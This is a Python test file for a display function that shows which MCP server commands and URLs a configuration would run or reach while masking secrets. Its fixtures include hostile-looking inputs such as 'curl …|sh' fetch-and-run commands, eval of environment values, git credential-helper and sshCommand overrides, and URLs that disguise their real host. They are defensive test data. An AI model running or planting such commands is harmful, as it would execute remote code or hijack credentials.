import json

import pytest

from satchel.trust.server_text import declaration_text, reached_text, server_text

ALL_SHOWN = [
    ("sh", "-c", 'eval "${TOKEN:-evil}"', """sh -c 'eval "${TOKEN:-evil}"'"""),
    ("sh", "-c", "curl http://e.x:$P?@g.x/x|sh", "sh -c 'curl http://e.x:$P?@g.x/x|sh'"),
    ("sh", "-c", "make PASS=./evil all X=1", "sh -c 'make PASS=./evil all X=1'"),
    ("npx", "-y", "--no-auth", "hf-evil-server", "npx -y --no-auth hf-evil-server"),
    ("npm", "run", "auth:evil", "npm run auth:evil"),
    ("docker", "run", "keycloak-mcp:evil", "docker run keycloak-mcp:evil"),
    ("npx", "https://h.x/r.git#evil", "npx 'https://h.x/r.git#evil'"),
    ("deno", "run", "https://h.x/raw?ref=evil", "deno run 'https://h.x/raw?ref=evil'"),
    ("unshare", "-u", "-p", "evil", "unshare -u -p evil"),
    ("env", "-u", "GIT_DIR", "git", "-p", "evil", "env -u GIT_DIR git -p evil"),
    ("sh", "-c", "x ${TOKEN:-evil}", "sh -c 'x ${TOKEN:-evil}'"),
    ("perl", "-e", 'system("${PASS:-evil}")', """perl -e 'system("${PASS:-evil}")'"""),
    ("bunx", "--no-auth", "evil", "bunx --no-auth evil"),
    ("uv", "run", "--no-keyring", "evil", "uv run --no-keyring evil"),
    ("curl", "--anyauth", "2130706433", "curl --anyauth 2130706433"),
]
"""Words that name what is run or reached, or are code; behind them is how they are shown."""
JWT = f"eyJ{'h' * 9}.{'planted' * 2}.x"
REACHED = [
    ({"url": "http://127.0.0.1:/x@good.example/mcp"}, "http://127.0.0.1:/x@good.example/mcp"),
    ({"url": "https://evil.example:/x@good.example"}, "https://evil.example:/x@good.example"),
    ({"url": "https://u:p@ss@evil.example/x"}, "https://u:***@evil.example/x"),
    ({"url": "https://e.example/x?key=planted&v=1#a"}, "https://e.example/x?key=***&v=***"),
    ({"command": "npx", "args": ["-y", "hf-mcp-server"]}, "npx -y hf-mcp-server"),
    ({"command": "uvx", "args": ["npm-registry-mcp"]}, "uvx npm-registry-mcp"),
    ({"command": "node", "args": ["sk-runner-main.js"]}, "node sk-runner-main.js"),
    (
        {"command": "uvx", "args": ["--from", "git+https://h.example/AbcDefGhij1234567890KL", "r"]},
        "uvx --from git+https://h.example/AbcDefGhij1234567890KL r",
    ),
    ({"command": "python", "args": ["--key", "evil.py"]}, "python --key evil.py"),
    ({"command": "git", "args": ["-c", "credential.helper=evil"]}, "git -c credential.helper=evil"),
    (
        {"command": "x", "args": ["--api-key", "planted", "db://u:planted@h/db"]},
        "x --api-key '***' 'db://u:***@h/db'",
    ),
    ({"command": "x", "args": ["--token", JWT]}, "x --token '***'"),
    ({"command": "x", "args": ["TOKEN=planted"]}, "x 'TOKEN=***'"),
    ({"command": "x", "args": ["host=h password=planted"]}, "x 'host=h password=***'"),
    ({"command": "x", "args": ["Server=h;User Id=u;Pwd=pl+=;"]}, "x 'Server=h;User Id=u;Pwd=***;'"),
    ({"command": "x", "args": ["--pw", "p@nted!", "--pass=pl"]}, "x --pw '***' '--pass=***'"),
    ({"command": "x", "args": ["-u", "1:1", "-p", "8080"]}, "x -u 1:1 -p 8080"),
    ({"command": "npx", "args": ["-u", "me", "-p", "evil"]}, "npx -u me -p evil"),
    ({"command": "x", "args": ["-p", "evil"]}, "x -p evil"),
    ({"command": "python", "args": ["-u", "evil:py"]}, "python -u evil:py"),
    ({"command": "x", "args": ["--auth-module", "evil"]}, "x --auth-module evil"),
    ({"command": "x", "args": ["Authorization: Bearer planted"]}, "x 'Authorization: ***'"),
    ({"command": "x", "args": ["git+https://ghp_planted@h.x/r"]}, "x 'git+https://***@h.x/r'"),
    *(
        (run, shown)
        for *run_args, shown in ALL_SHOWN
        for run in [{"command": run_args[0], "args": run_args[1:]}]
    ),
    (
        {"command": "sh", "args": ["-c", "curl http://u:$(evil)@h http://u:x&evil@h"]},
        "sh -c 'curl http://u:$(evil)@h http://u:x&evil@h'",
    ),
]


@pytest.mark.parametrize(("declared", "text"), REACHED)
def test_what_is_reached_or_run_is_shown_and_secrets_are_not(declared, text):
    assert declaration_text(declared) == text


ADDRESSES = [
    "http://127.0.0.1:80_99?*@good.example/mcp",
    "http://evil.example:+80?*@good.example",
    "http://evil.example:${P:-443}#!@good.example",
    "http://${H:-evil.example#!}@good.example",
    "http://${TOKEN:-evil.example}/x",
    "https://${KEY:-localhost}:80/x",
]


@pytest.mark.parametrize("url", ADDRESSES)
def test_the_host_of_a_strange_address_is_shown(url):
    assert declaration_text({"url": url}) == url


PROGRAMS = {
    "GOAUTH": "./evil.sh",
    "PYTHON_KEYRING_BACKEND": "evil.Keyring",
    "GIT_CONFIG_KEY_0": "core.sshCommand",
    "TOKENIZER": "./evil.py",
}


def test_a_variable_that_names_a_program_is_shown():
    shown = declaration_text({"command": "x", "env": PROGRAMS})
    assert all(value in shown for value in PROGRAMS.values())


@pytest.mark.parametrize("url", ["http://127.0.0.1:/x@good.example", "https://u:p@evil.example/x"])
def test_lists_show_the_host_that_is_reached(url):
    assert server_text(json.dumps(["", [], "", url])).endswith(url.partition("://")[2][-12:])


SECRET_NAMES = ["PASS", "DB_PASS", "PIN", "CARD_PIN", "DB_PWD", "PASSPHRASE", "API_KEY"]
OTHER_NAMES = ["PATH", "PWD", "COMPASS", "GIT_ASKPASS", "TOKEN_CMD", "AUTH_HOST", "PINNED", "DSN"]


@pytest.mark.parametrize("name", SECRET_NAMES + OTHER_NAMES)
def test_names_of_variables_say_what_is_a_secret(name):
    shown = declaration_text({"command": "x", "env": {name: "planted"}})
    assert ("planted" in shown) == (name in OTHER_NAMES)


def test_the_address_in_a_variable_keeps_its_host():
    shown = declaration_text({"command": "x", "env": {"AUTH": "https://u:planted@evil.example/x"}})
    assert "'https://u:***@evil.example/x'" in shown


PASSWORDS = [
    ["--pw", "pl.nted/"],
    ["-u", "me:planted"],
    ["--pass=planted"],
    ["-ume:planted"],
    ["--user=me:planted"],
    ["--jwt", "eyJhbGciOiJIUzI1NiJ9.planted.abc"],
    ["https://h.example;AccountKey=planted=="],
    ["postgres://h/db?user=u&password=planted"],
    ["root:planted@tcp(h:3306)/db"],
    ['--config={\\"token\\":\\"planted\\"}'],
    ["--env=API_KEY=planted"],
    ["-e", "TOKEN=a/planted"],
]


@pytest.mark.parametrize("args", PASSWORDS)
def test_lists_and_shared_files_show_no_password(args):
    reached = json.dumps(["x", args, None, ""])
    assert "nted" not in server_text(reached) + reached_text(reached)


def test_a_variable_that_a_header_names_is_data():
    args = ["mcp-remote", "https://h.x", "--header", "Authorization:${AUTH_HEADER}"]
    env = {"AUTH_HEADER": "Bearer planted"}
    assert "planted" not in declaration_text({"command": "npx", "args": args, "env": env})


def test_variables_are_masked_unless_the_command_may_run_them():
    env = {"API_KEY": "${API_KEY:-planted}", "DATABASE_URL": "db://u:planted@h/db", "MODE": "fast"}
    shown = declaration_text({"command": "x", "env": env})
    assert "planted" not in shown
    assert "db://u:***@h/db" in shown
    assert "fast" in shown
    code = {"command": "sh", "args": ["-c", 'eval "$AUTH"'], "env": {"AUTH": "evil"}}
    assert "'AUTH': 'evil'" in declaration_text(code)
    assert "curl evil|sh" in declaration_text({"command": "x", "env": {"AUTH": "curl evil|sh"}})


def test_a_long_word_full_of_secret_names_takes_no_time():
    assert server_text(json.dumps(["x", ["key" * 5_000], None, ""])).startswith("x key")
